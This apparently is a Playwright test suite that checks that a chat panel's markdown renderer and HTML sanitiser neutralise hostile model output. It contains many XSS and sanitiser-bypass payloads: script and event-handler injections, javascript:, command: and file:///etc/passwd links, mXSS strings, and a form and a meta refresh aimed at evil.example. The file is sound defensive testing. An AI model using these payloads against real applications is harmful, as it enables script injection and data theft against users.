import * as assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { deltas, turnEnded, turnStarted, usePanel } from './support/panelHarness';

/** Model output trying everything: each payload would set `window.__pwned` if it ever ran. */
const HOSTILE_MARKDOWN = [
  `<script>window.__pwned='script'</script>`,
  `<img src=x onerror="window.__pwned='img'">`,
  `<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>`,
  `<iframe src="javascript:window.__pwned='iframe'"></iframe> <iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
  `<form action="https://evil.example/steal"><input name=x value=1><button>Go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<style>body{display:none}</style> <link rel=stylesheet href=https://evil.example/x.css>`,
  `<!-- <script>window.__pwned='comment'</script> -->`,
  `<a href="javascript:window.__pwned='raw-a'">raw anchor</a> <details open ontoggle="window.__pwned='details'">x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">`,
  `[js](javascript:window.__pwned='md') [JS](JAVASCRIPT:window.__pwned='md2') [entity](&#106;avascript:window.__pwned='ent')`,
  `[cmd](command:workbench.action.quit) [cmdargs](command:vscode.open?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D)`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vs](vscode://file/etc/passwd) [file](file:///etc/passwd)`,
  `<javascript:window.__pwned='autolink'> <command:workbench.action.quit> <vscode://x/y>`,
  `[[1]](javascript:window.__pwned='cite') [[2]](command:workbench.action.quit) [[3]](data:text/html,x) [[4]](vscode://x)`,
  `![img](javascript:window.__pwned='imgmd') ![svg](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E) ![file](file:///etc/passwd)`,
  `[ref][r]\n\n[r]: javascript:window.__pwned='ref'`,
  `[title](https://x.ai/ok "a\\" onmouseover=\\"window.__pwned='title'") and a fine link [[5]](https://x.ai/fine)`,
  '```html\n<script>window.__pwned="fence"</script>\n```',
].join('\n\n');

/**
 * Asserts nothing executable or navigable survived under `root`; returns counts for sanity checks.
 * The panel's own code block toolbars (built with DOM calls, never from model output) are checked
 * apart: only its four action buttons, with nothing else on them.
 */
async function assertInert(page: Page, root: string): Promise<{ anchors: number; text: string }> {
  const toolbars = await page.$$eval(`${root} .code-toolbar`, (bars) =>
    bars.map((bar) => [...bar.querySelectorAll('*')].map((e) => `${e.tagName}${e.getAttribute('data-code-action') ? `:${e.getAttribute('data-code-action')}` : ''}[${e.getAttributeNames().sort().join(',')}]`)),
  );
  for (const bar of toolbars) {
    assert.deepEqual(bar.filter((e) => e.startsWith('BUTTON')), [
      'BUTTON:copy[aria-label,class,data-code-action,tabindex,title,type]',
      'BUTTON:insert[aria-label,class,data-code-action,tabindex,title,type]',
      'BUTTON:apply[aria-label,class,data-code-action,tabindex,title,type]',
      'BUTTON:newFile[aria-label,class,data-code-action,tabindex,title,type]',
    ]);
  }
  const report = await page.$eval(root, (live) => {
    const element = live.cloneNode(true) as Element;
    for (const bar of element.querySelectorAll('.code-toolbar')) bar.remove();
    const forbidden = element.querySelectorAll('script, iframe, frame, object, embed, svg, math, form, input, button, textarea, select, meta, link, style, base, details, template, noscript');
    const attributes: string[] = [];
    const links: string[] = [];
    const images: string[] = [];
    for (const node of element.querySelectorAll('*')) {
      for (const attribute of node.getAttributeNames()) {
        if (/^on|^style$|^srcdoc$|^formaction$|^action$|^target$|^xlink:href$/i.test(attribute)) attributes.push(`${node.tagName}[${attribute}]`);
      }
      if (node instanceof HTMLAnchorElement && node.hasAttribute('href')) links.push(node.getAttribute('href')!);
      if (node instanceof HTMLImageElement && node.hasAttribute('src')) images.push(node.getAttribute('src')!);
    }
    return { forbidden: [...forbidden].map((e) => e.tagName), attributes, links, images, text: element.textContent ?? '' };
  });
  assert.deepEqual(report.forbidden, [], 'no executable, framing, form or style elements');
  assert.deepEqual(report.attributes, [], 'no handlers, inline styles or form targets');
  for (const link of report.links) assert.match(link, /^https?:\/\//i, `link ${link}`);
  for (const image of report.images) assert.match(image, /^https:\/\//i, `image ${image}`);
  return { anchors: report.links.length, text: report.text };
}

describe('panel: hostile model output (headless Chromium)', () => {
  const { harness, panel } = usePanel();

  for (const [label, sizes] of [
    ['in one delta', [HOSTILE_MARKDOWN.length]],
    ['cut into tiny deltas', [1, 2, 3, 1, 5]],
  ] as const) {
    it(`renders no executable content and no navigable link (${label})`, async () => {
      const p = panel();
      await p.send(turnStarted('h'), ...deltas('h', HOSTILE_MARKDOWN, [...sizes]), turnEnded('h'));
      await p.waitForStatus('h', 'completed');
      await p.settle();
      const { anchors, text } = await assertInert(p.page, '[data-turn-id="h"] .answer');
      await assertInert(p.page, '[data-turn-id="h"] .sources');
      assert.ok(anchors >= 2, 'the legitimate links are still links');
      assert.ok(text.includes(`<script>window.__pwned='script'</script>`), 'raw HTML is shown as text');

      // Activate every anchor: only http(s) reaches the host, and the page never navigates.
      const requestsBefore = harness().requests.length;
      for (const anchor of await p.page.$$('[data-turn-id="h"] a')) await anchor.click();
      await p.settle();
      const posted = await p.posted();
      assert.ok(posted.length >= 2);
      for (const message of posted) {
        assert.equal(message.type, 'openLink');
        assert.match(String(message.url), /^https?:\/\//);
      }
      assert.equal(await p.page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned), undefined);
      assert.deepEqual(await p.preloadLinkOpens(), []);
      assert.equal(p.page.url(), `${p.origin}/`);
      assert.deepEqual(harness().requests.slice(requestsBefore), []);
      assert.deepEqual(await p.cspViolations(), [], 'nothing even tried to run (the CSP had nothing to block)');
    });
  }

  it('strips raw hostile HTML given straight to the sanitiser (defence in depth)', async () => {
    const page = await harness().openSanitizer();
    try {
      const payloads = [
        `<script>window.__pwned=1</script><p>ok</p>`,
        `<img src=x onerror="window.__pwned=2"><img src="data:image/png;base64,iVBORw0KGgo="><img src="http://example.com/a.png"><img src="https://example.com/b.png">`,
        `<svg><g onload="window.__pwned=3"></g><script>window.__pwned=3</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
        `<iframe src="javascript:window.__pwned=4"></iframe><object data="x"></object><embed src="x">`,
        `<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">b</button></form>`,
        `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=import href=x>`,
        `<style>*{display:none}</style><p style="background:url(javascript:alert(1))">styled</p>`,
        `<a href="javascript:window.__pwned=5">j</a><a href="JaVaScRiPt:alert(1)">k</a><a href="command:workbench.action.quit">c</a><a href="vscode://x">v</a><a href="file:///etc/passwd">f</a><a href="data:text/html,x">d</a><a href="mailto:a@b.example">m</a><a href="ftp://ftp.example/">ftp</a><a href="tel:123">t</a><a href="/relative">r</a><a href="#frag">h</a><a href="https://ok.example/" target="_blank" onclick="window.__pwned=6">ok</a>`,
        `<noscript><p title="</noscript><img src=x onerror=window.__pwned=7>"></noscript>`,
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__pwned=8&gt;">`,
        `<p id="conversation" name="body" data-x="1" aria-hidden="true" class="citation">clobber</p>`,
        `<details open ontoggle="window.__pwned=9"><summary>s</summary></details><template><img src=x onerror=alert(1)></template>`,
      ];
      await page.evaluate((list) => {
        const host = document.getElementById('app')!;
        const sanitize = (window as unknown as { sanitizeToFragment: (html: string) => DocumentFragment }).sanitizeToFragment;
        for (const html of list) {
          const container = document.createElement('div');
          container.className = 'sanitized';
          container.append(sanitize(html));
          host.append(container);
        }
      }, payloads);
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
      await assertInert(page, '#app');
      const survivors = await page.$eval('#app', (e) => ({
        links: [...e.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')),
        images: [...e.querySelectorAll('img[src]')].map((i) => i.getAttribute('src')),
        ids: [...e.querySelectorAll('[id], [name], [data-x], [aria-hidden]')].length,
      }));
      assert.deepEqual(survivors, { links: ['https://ok.example/'], images: ['https://example.com/b.png'], ids: 0 });
      assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
    } finally {
      await page.close();
    }
  });
});
